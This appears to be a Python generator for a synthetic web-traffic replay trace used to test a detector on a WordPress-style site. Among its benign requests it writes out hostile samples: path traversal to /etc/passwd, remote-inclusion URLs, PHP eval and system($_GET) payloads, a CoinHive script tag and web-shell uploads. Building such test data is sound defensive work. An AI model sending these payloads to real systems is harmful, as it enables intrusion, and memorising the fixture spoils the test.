#!/usr/bin/env python3
"""Writes the bundled 1,000-request replay trace.

Background traffic is mostly ordinary browsing with a scattering of hostile
requests. On top of it sit the tagged cases the acceptance run checks; each
carries an `X-Trace-Case` header naming it.

    python3 tools/gen_trace.py > data/traces/mixed_1000.jsonl
"""

import base64
import json
import random
import sys
from datetime import datetime, timedelta, timezone

SEED = 20240301
TOTAL = 1000
START = datetime(2024, 3, 1, 8, 0, 0, tzinfo=timezone.utc)

BROWSERS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_3) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.3 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:123.0) Gecko/20100101 Firefox/123.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_3 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148",
]
CRAWLER = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
PAGES = ["/", "/blog/", "/shop/", "/about-us/", "/contact/", "/wp-content/themes/site/style.css",
         "/wp-includes/js/jquery/jquery.min.js", "/feed/", "/sitemap.xml"]
WORDS = ["garden", "coffee", "shipping", "returns", "recipe", "winter+sale", "gift", "bike"]

rng = random.Random(SEED)


def stamp(t):
    return t.strftime("%Y-%m-%dT%H:%M:%S.") + f"{t.microsecond // 1000:03d}Z"


def b64(s):
    return base64.b64encode(s.encode() if isinstance(s, str) else s).decode()


def req(ip, t, method="GET", path="/", query=None, body=None, ua=None, uploads=None, login=None, case=None):
    headers = []
    if ua is not None:
        headers.append(["User-Agent", ua])
    headers.append(["Accept", "text/html,*/*"])
    if case:
        headers.append(["X-Trace-Case", case])
    r = {
        "source_ip": ip,
        "method": method,
        "path": path,
        "query": query or [],
        "body": body or [],
        "headers": headers,
        "uploads": uploads or [],
        "received_at": stamp(t),
    }
    if login:
        r["login_outcome"] = login
    return r


def upload(name, content, field="async-upload"):
    data = content.encode()
    return {"field": field, "filename": name, "size": len(data), "first_bytes_b64": b64(data[:256])}


def us_ip():
    return f"192.0.2.{rng.randint(100, 250)}"


def de_ip():
    return f"198.51.100.{rng.randint(100, 250)}"


def nl_ip():
    return f"203.0.113.{rng.randint(20, 250)}"


def background(t):
    """One ordinary or hostile request at time t."""
    roll = rng.random()
    ip = rng.choice([us_ip, de_ip, nl_ip])()
    ua = rng.choice(BROWSERS)
    if roll < 0.55:
        path = rng.choice(PAGES + [f"/blog/post-{rng.randint(1, 400)}/", f"/shop/item-{rng.randint(1, 900)}/"])
        return req(ip, t, path=path, ua=ua)
    if roll < 0.63:
        return req(ip, t, path="/", query=[["s", rng.choice(WORDS)]], ua=ua)
    if roll < 0.68:
        return req(f"66.249.66.{rng.randint(1, 250)}", t, path=rng.choice(PAGES), ua=CRAWLER)
    if roll < 0.72:
        text = rng.choice(["Great+post%21", "Thanks+for+the+tip", "Does+this+ship+to+Austria%3F"])
        return req(ip, t, method="POST", path="/wp-comments-post.php",
                   body=[["comment", text], ["comment_post_ID", str(rng.randint(1, 400))]], ua=ua)
    if roll < 0.74:
        return req(ip, t, method="POST", path="/wp-login.php",
                   body=[["log", "editor"], ["pwd", "correct-horse"]], ua=ua, login="success")
    if roll < 0.755:
        return req(ip, t, method="POST", path="/wp-admin/async-upload.php", ua=ua,
                   uploads=[upload(f"photo-{rng.randint(1, 99)}.jpg", "\xff\xd8\xff\xe0 JFIF")])
    if roll < 0.79:
        country = rng.choice(["100.64", "100.65"])
        return req(f"{country}.{rng.randint(0, 255)}.{rng.randint(1, 254)}", t, path=rng.choice(PAGES), ua=ua)
    if roll < 0.80:
        return req(rng.choice(["203.0.113.7", f"100.66.9.{rng.randint(1, 254)}"]), t, path="/", ua=ua)
    if roll < 0.83:
        return req(ip, t, path=rng.choice(PAGES),
                   ua=rng.choice(["Wget/1.21.2", "python-requests/2.31.0", "libwww-perl/6.72", ""]))
    if roll < 0.87:
        value = rng.choice(["....//....//etc/passwd", "%252e%252e%252fwp-config.php", "php://filter/resource=index",
                            "https://evil.example/s.txt", "..%5c..%5c..%5cwindows%5cwin.ini",
                            "data:text/plain;base64,PD9waHA="])
        return req(ip, t, path="/index.php", query=[[rng.choice(["page", "file", "controller"]), value]], ua=ua)
    if roll < 0.90:
        payload = rng.choice(["%3C%3Fphp+eval%28base64_decode%28%27ZWNobyAx%27%29%29%3B",
                              "system%28%24_GET%5B%27c%27%5D%29%3B",
                              "%3Cscript%3Enew+CoinHive.Anonymous%28%27k%27%29%3C%2Fscript%3E"])
        return req(ip, t, method="POST", path="/wp-comments-post.php", body=[["comment", payload]], ua=ua)
    if roll < 0.92:
        name = rng.choice(["backdoor.phtml", "x.php.jpg", "logo.jpg", "run.sh", "cmd.PhP%00.png"])
        content = "<?php echo 1; ?>" if name.endswith(("jpg", "png")) else "#!/bin/sh\n"
        return req(ip, t, method="POST", path="/wp-admin/async-upload.php", ua=ua, uploads=[upload(name, content)])
    if roll < 0.95:
        return req(ip, t, method="POST", path="/wp-login.php",
                   body=[["log", "admin"], ["pwd", "guess"]], ua=ua, login="failure")
    return req(ip, t, path=f"/wp-content/uploads/2024/03/img-{rng.randint(1, 50)}.png", ua=ua)


def main():
    records = []
    t = START
    tagged_at = {60: "lfi", 140: "rfi", 220: "agent", 300: "upload", 380: "login", 470: "burst", 760: "repeat"}
    while len(records) < TOTAL:
        t += timedelta(milliseconds=rng.randint(2000, 20000))
        case = tagged_at.get(len(records))
        if case == "lfi":
            records.append(req("192.0.2.10", t, path="/index.php", query=[["controller", "../../../etc/passwd"]],
                               ua=BROWSERS[0], case="lfi"))
        elif case == "rfi":
            records.append(req("192.0.2.11", t, path="/index.php",
                               query=[["controller", "http://www.virus.com/exploit.txt"]], ua=BROWSERS[1], case="rfi"))
        elif case == "agent":
            records.append(req("192.0.2.12", t, path="/", ua="curl/7.68.0", case="agent"))
        elif case == "upload":
            records.append(req("192.0.2.13", t, method="POST", path="/wp-admin/async-upload.php", ua=BROWSERS[2],
                               uploads=[upload("shell.php", "<?php echo 'uploaded'; ?>")], case="upload"))
        elif case == "login":
            for i in range(1, 5):
                records.append(req("192.0.2.14", t, method="POST", path="/wp-login.php",
                                   body=[["log", "admin"], ["pwd", f"attempt{i}"]], ua=BROWSERS[0],
                                   login="failure", case=f"login-{i}"))
                t += timedelta(seconds=30)
        elif case == "burst":
            # Quiet before and after so nothing else shares the one-second window.
            t += timedelta(seconds=10)
            for i in range(1, 202):
                records.append(req(f"192.0.2.{20 + i % 40}", t + timedelta(milliseconds=4 * (i - 1)),
                                   path=rng.choice(PAGES), ua=rng.choice(BROWSERS), case=f"burst-{i}"))
            t += timedelta(seconds=10)
        elif case == "repeat":
            records.append(req("192.0.2.10", t, path="/index.php", query=[["page", "home"]], ua=BROWSERS[0],
                               case="repeat"))
        else:
            records.append(background(t))
    for r in records[:TOTAL]:
        sys.stdout.write(json.dumps(r, sort_keys=True, separators=(",", ":")) + "\n")


if __name__ == "__main__":
    main()
